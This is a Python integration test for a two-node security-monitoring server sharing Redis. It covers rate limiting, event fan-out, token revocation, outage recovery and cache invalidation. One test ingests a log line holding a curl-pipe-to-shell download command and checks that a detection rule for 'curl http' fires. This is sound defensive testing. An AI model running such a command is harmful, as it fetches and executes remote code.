"""Integration: two `securityai serve` nodes share one Redis (started here on
127.0.0.1) and one SQLite data directory (WAL and a busy timeout make two
processes safe on it; the lead's PostgreSQL test replaces that part).

Proves: the rate limit holds across nodes, a WebSocket client on node A receives
events ingested on node B (once), a logout on A rejects the token on B at once,
and a Redis outage degrades both nodes without stopping them, then heals on its
own (fan-out works again) without restarting them."""

import json
import os
import shutil
import socket
import sys
import tempfile
import time
import unittest

sys.path.insert(0, os.path.join(os.path.dirname(__file__), "..", "e2e"))
from harness import Server, WebSocket, wait_for  # noqa: E402
from servers import Redis  # noqa: E402

SECRET = "integration-redis-secret-key-0123456789abcdef"


def start_nodes(redis_url, count=2, env=None):
    """`count` nodes on one data directory and one Redis, started one after the
    other (the first creates the schema and the admin account). Returns (nodes, dir)."""
    data_dir = tempfile.mkdtemp(prefix="sai-redis-nodes-")
    full_env = {"REDIS_URL": redis_url, "SECRET_KEY": SECRET, "REDIS_TIMEOUT_MS": "200"}
    full_env.update(env or {})
    nodes = []
    try:
        for _ in range(count):
            nodes.append(Server(env=full_env, data_dir=data_dir))
    except Exception:
        for n in nodes:
            n.stop()
        shutil.rmtree(data_dir, ignore_errors=True)
        raise
    return nodes, data_dir


def health(node):
    return node.json("GET", "/health")[2] or {}


def open_stream(node, token):
    ws = WebSocket(node.port, "/api/v1/monitor/ws?token=" + token, timeout=20)
    assert ws.status == 101, ws.status
    assert ws.recv()["type"] == "subscribed"
    return ws


def wait_event(ws, event_id, timeout=20):
    """Reads frames until the event with `event_id` arrives; False on timeout."""
    deadline = time.time() + timeout
    ws.sock.settimeout(1)
    try:
        while time.time() < deadline:
            try:
                m = ws.recv()
            except socket.timeout:
                continue
            if m and m.get("type") == "event" and m["data"].get("id") == event_id:
                return True
        return False
    finally:
        ws.sock.settimeout(20)


@unittest.skipUnless(Redis.available, "redis-server is not installed")
class RedisTwoNodesTest(unittest.TestCase):
    def setUp(self):
        self.redis = Redis()
        self.nodes = []
        self.data_dir = None

    def tearDown(self):
        for n in self.nodes:
            n.stop()
        if self.data_dir:
            shutil.rmtree(self.data_dir, ignore_errors=True)
        self.redis.close()

    def ingest(self, node, token, events):
        status, _, body = node.json("POST", "/api/v1/monitor/events", events, token=token)
        self.assertEqual(status, 202, body)

    def test_rate_limit_is_shared_by_the_nodes(self):
        self.nodes, self.data_dir = start_nodes(self.redis.url, env={"RATE_LIMIT_PER_MINUTE": "20"})
        a, b = self.nodes
        token = a.login()["access_token"]
        statuses = []
        for i in range(40):
            node = (a, b)[i % 2]
            status, headers, _ = node.json("GET", "/api/v1/auth/me", token=token)
            statuses.append(status)
            self.assertEqual(headers.get("RateLimit-Limit"), "20")
        allowed = statuses.count(200)
        # One bucket of 20 (plus at most a refill or two while the loop runs);
        # two local limiters would have allowed all 40.
        self.assertGreaterEqual(allowed, 20, statuses)
        self.assertLessEqual(allowed, 23, statuses)
        self.assertEqual(set(statuses), {200, 429}, statuses)
        self.assertIn(429, statuses[0::2], "node A refuses")
        self.assertIn(429, statuses[1::2], "node B refuses")
        self.assertIn("rl:user:", self.redis.cli("--scan", "--pattern", "sai:rl:*"))

    def test_fanout_revocation_outage_and_recovery(self):
        self.nodes, self.data_dir = start_nodes(self.redis.url, env={"RATE_LIMIT_PER_MINUTE": "0"})
        a, b = self.nodes
        token = a.login()["access_token"]
        self.assertTrue(wait_for(lambda: health(a).get("status") == "healthy" and health(b).get("status") == "healthy",
                                 timeout=20), (health(a), health(b)))
        _, _, st = a.json("GET", "/api/v1/monitor/status", token=token)
        self.assertEqual(st["components"]["redis"]["state"], "healthy")

        # Fan-out: ingested on B, streamed on A; ingested on A, streamed once on A.
        ws = open_stream(a, token)
        try:
            tag = "redis%d" % time.time_ns()
            self.ingest(b, token, [{"id": tag + "-b", "message": "from node b", "event.category": "network"}])
            self.assertTrue(wait_event(ws, tag + "-b"), "an event ingested on B reaches a client on A")
            self.ingest(a, token, [{"id": tag + "-a", "message": "from node a"}])
            self.assertTrue(wait_event(ws, tag + "-a"))
            ws.send(json.dumps({"type": "ping"}))
            self.assertEqual(ws.recv()["type"], "pong", "no duplicate of A's own event comes back through Redis")

            # Revocation: logout on A, the token dies on B at once (not at B's next reload).
            other = b.login()["access_token"]
            self.assertEqual(b.json("GET", "/api/v1/auth/me", token=other)[0], 200)
            self.assertEqual(a.json("POST", "/api/v1/auth/logout", token=other)[0], 204)
            self.assertTrue(wait_for(lambda: b.json("GET", "/api/v1/auth/me", token=other)[0] == 401, timeout=1.5),
                            "revoked on B within 1.5 s")

            # Users and API keys: created or revoked on A, effective on B at once (B
            # reloads when A announces a change, not at its next 10 s reload).
            status, _, key = a.json("POST", "/api/v1/api-keys", {"name": "shared-key", "role": "viewer"}, token=token)
            self.assertEqual(status, 201, key)
            as_key = {"X-API-Key": key["key"]}
            self.assertTrue(wait_for(lambda: b.json("GET", "/api/v1/auth/me", headers=as_key)[0] == 200, timeout=1.5),
                            "a key created on A works on B within 1.5 s")
            self.assertEqual(a.json("DELETE", "/api/v1/api-keys/" + key["id"], token=token)[0], 204)
            self.assertTrue(wait_for(lambda: b.json("GET", "/api/v1/auth/me", headers=as_key)[0] == 401, timeout=1.5),
                            "a key revoked on A is refused on B within 1.5 s")

            # Outage: both nodes keep serving, /health says degraded, status says why.
            self.redis.stop()
            for node in (a, b):
                self.assertTrue(wait_for(lambda: health(node).get("status") == "degraded", timeout=20), health(node))
                self.assertEqual(health(node)["components"]["redis"], "degraded")
                _, _, st = node.json("GET", "/api/v1/monitor/status", token=token)
                self.assertEqual(st["components"]["redis"]["state"], "degraded")
                self.assertTrue(st["components"]["redis"].get("detail"), st["components"]["redis"])
                self.assertEqual(node.json("GET", "/api/v1/auth/me", token=token)[0], 200)
            t0 = time.time()
            self.ingest(b, token, [{"id": tag + "-down", "message": "while Redis is down"}])
            self.assertLess(time.time() - t0, 5, "ingestion never waits for Redis")

            # Recovery without restarting the nodes: healthy again, fan-out again.
            self.redis.start()
            for node in (a, b):
                self.assertTrue(wait_for(lambda: health(node).get("status") == "healthy", timeout=30, interval=0.2),
                                health(node))
            tag2 = tag + "-back"
            deadline = time.time() + 30
            delivered = False
            while not delivered and time.time() < deadline:
                self.ingest(b, token, [{"id": "%s-%d" % (tag2, int(time.time() * 1000)), "message": "after recovery"}])
                delivered = wait_event_prefix(ws, tag2, timeout=2)
            self.assertTrue(delivered, "fan-out works again after Redis comes back")
        finally:
            ws.close()
        metrics = a.request("GET", "/metrics")[2].decode()
        self.assertIn("securityai_redis_errors_total", metrics)
        self.assertIn("securityai_redis_up 1", metrics)

    def test_alert_summary_cache_is_shared_and_invalidated_on_every_node(self):
        # A long TTL: only the invalidation can make a node see the new alert.
        self.nodes, self.data_dir = start_nodes(self.redis.url, env={"RATE_LIMIT_PER_MINUTE": "0",
                                                                     "REDIS_CACHE_TTL_S": "300"})
        a, b = self.nodes
        token = a.login()["access_token"]
        self.assertTrue(wait_for(lambda: health(a).get("status") == "healthy" and health(b).get("status") == "healthy",
                                 timeout=20))
        path = "/api/v1/metrics/alerts"
        status, _, before = a.json("GET", path, token=token)
        self.assertEqual(status, 200, before)
        self.assertEqual(before["alerts"], 0)
        self.assertIn("sai:cache:alerts:", self.redis.cli("--scan", "--pattern", "sai:cache:alerts:*"))
        self.assertEqual(b.json("GET", path, token=token)[2], before)
        self.assertRegex(b.request("GET", "/metrics")[2].decode(),
                         r'securityai_redis_cache_lookups_total\{result="hit"\} [1-9]')

        # A client on A that asked for alerts only.
        ws = open_stream(a, token)
        try:
            ws.send(json.dumps({"type": "subscribe", "filters": {"kinds": ["alerts"]}}))
            self.assertEqual(ws.recv()["type"], "subscribed")
            rule = RULE.encode()
            status, _, body = b.request("POST", "/api/v1/rules", body=rule,
                                        headers={"Authorization": "Bearer " + token, "Content-Type": "application/yaml"})
            self.assertEqual(status, 201, body)
            self.ingest(b, token, [{"message": "bash -c curl http://198.51.100.9/x.sh | sh", "host": "db-2"}])
            self.assertTrue(wait_for(lambda: b.json("GET", "/api/v1/alerts?rule=test-curl-download",
                                                    token=token)[2]["items"], timeout=20), "the rule fires on node B")
            fresh = wait_for(lambda: a.json("GET", path, token=token)[2]["alerts"] == 1, timeout=5)
            self.assertTrue(fresh, "node A's cached summary was dropped when B opened the alert")
            # The alert opened on B reaches A's client, and nothing else does (no events).
            frame = ws.recv()
            self.assertEqual((frame["type"], frame["change"]), ("alert", "created"), frame)
            self.assertEqual(frame["data"]["rule_id"], "test-curl-download")
            ws.send(json.dumps({"type": "ping"}))
            self.assertEqual(ws.recv()["type"], "pong")
        finally:
            ws.close()

    def test_a_node_starts_without_redis_and_joins_when_it_appears(self):
        self.redis.stop()
        self.nodes, self.data_dir = start_nodes(self.redis.url, count=1, env={"RATE_LIMIT_PER_MINUTE": "5"})
        node = self.nodes[0]
        self.assertTrue(wait_for(lambda: health(node).get("status") == "degraded", timeout=20), health(node))
        token = node.login()["access_token"]
        # The local limiter stands in: the limit still holds on this node.
        statuses = [node.json("GET", "/api/v1/auth/me", token=token)[0] for _ in range(8)]
        self.assertEqual(statuses.count(200), 5, statuses)
        self.redis.start()
        self.assertTrue(wait_for(lambda: health(node).get("status") == "healthy", timeout=30, interval=0.2),
                        health(node))
        # Now the shared bucket (fresh in Redis) decides.
        self.assertEqual(node.json("GET", "/api/v1/auth/me", token=token)[0], 200)
        self.assertIn("rl:user:", self.redis.cli("--scan", "--pattern", "sai:rl:*"))

    def test_a_bad_redis_url_stops_the_start(self):
        with self.assertRaises(RuntimeError) as caught:
            Server(env={"REDIS_URL": "http://127.0.0.1:%d" % self.redis.port})
        self.assertIn("redis", str(caught.exception))


RULE = """title: Test rule - curl downloads
id: test-curl-download
status: experimental
logsource: {product: linux}
detection:
    selection:
        message|contains: 'curl http'
    condition: selection
level: medium
"""


def wait_event_prefix(ws, prefix, timeout):
    deadline = time.time() + timeout
    ws.sock.settimeout(0.5)
    try:
        while time.time() < deadline:
            try:
                m = ws.recv()
            except socket.timeout:
                continue
            if m and m.get("type") == "event" and m["data"].get("id", "").startswith(prefix):
                return True
        return False
    finally:
        ws.sock.settimeout(20)


if __name__ == "__main__":
    unittest.main()
